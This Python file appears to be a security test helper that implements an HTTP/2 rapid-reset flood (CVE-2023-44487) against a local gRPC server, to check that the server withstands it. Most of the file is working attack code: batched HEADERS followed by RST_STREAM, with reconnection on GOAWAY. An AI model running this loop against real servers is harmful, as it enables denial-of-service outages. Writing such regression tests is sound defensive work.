"""An HTTP/2 rapid-reset client (CVE-2023-44487), run as its own process by the test.

``python -m tests.security.rapid_reset PORT CA_FILE TOKEN MAX_STREAMS MAX_S`` opens TLS
connections with ALPN ``h2`` to 127.0.0.1:PORT and, on each, sends batches of HEADERS for a
valid ``dialog.v1.Gateway/Send`` call (with the bearer token), each immediately followed by
RST_STREAM (CANCEL), until MAX_STREAMS streams or MAX_S seconds. When the server ends a
connection (GOAWAY or close) it opens a new one. It prints one JSON line of counts.
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import time
from dataclasses import asdict, dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

BATCH = 100


@dataclass
class Counts:
    streams: int = 0
    connections: int = 0
    goaways: int = 0
    closed_by_server: int = 0
    protocol_errors: int = 0
    seconds: float = 0.0


def _drain(tls: ssl.SSLSocket, conn: h2.connection.H2Connection, counts: Counts) -> bool:
    """Read what the server sent so far; False once the connection is over."""
    tls.settimeout(0.001)
    try:
        while True:
            data = tls.recv(65536)
            if not data:
                counts.closed_by_server += 1
                return False
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    counts.goaways += 1
                    return False
    except (TimeoutError, ssl.SSLWantReadError):
        return True
    except (ConnectionError, ssl.SSLError):
        counts.closed_by_server += 1
        return False
    except h2.exceptions.ProtocolError:
        counts.protocol_errors += 1
        return False
    finally:
        tls.settimeout(5)


def attack(port: int, ca_file: str, token: str, max_streams: int, max_s: float) -> Counts:
    context = ssl.create_default_context(cafile=ca_file)
    context.set_alpn_protocols(["h2"])
    headers = [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", "/dialog.v1.Gateway/Send"),
        (":authority", f"localhost:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", f"Bearer {token}"),
    ]
    counts = Counts()
    started = time.monotonic()
    deadline = started + max_s
    while counts.streams < max_streams and time.monotonic() < deadline:
        raw = socket.create_connection(("127.0.0.1", port), timeout=5)
        with context.wrap_socket(raw, server_hostname="localhost") as tls:
            assert tls.selected_alpn_protocol() == "h2"
            counts.connections += 1
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            tls.sendall(conn.data_to_send())
            alive = True
            while alive and counts.streams < max_streams and time.monotonic() < deadline:
                try:
                    for _ in range(BATCH):
                        stream_id = conn.get_next_available_stream_id()
                        conn.send_headers(stream_id, headers)
                        conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                        counts.streams += 1
                    tls.sendall(conn.data_to_send())
                except (ConnectionError, ssl.SSLError, TimeoutError):
                    counts.closed_by_server += 1
                    break
                except h2.exceptions.ProtocolError:
                    counts.protocol_errors += 1
                    break
                alive = _drain(tls, conn, counts)
                try:
                    if alive:
                        tls.sendall(conn.data_to_send())  # SETTINGS and PING acknowledgements
                except (ConnectionError, ssl.SSLError, TimeoutError):
                    counts.closed_by_server += 1
                    alive = False
    counts.seconds = round(time.monotonic() - started, 3)
    return counts


if __name__ == "__main__":
    port, ca_file, token, max_streams, max_s = sys.argv[1:6]
    result = attack(int(port), ca_file, token, int(max_streams), float(max_s))
    print(json.dumps(asdict(result)))
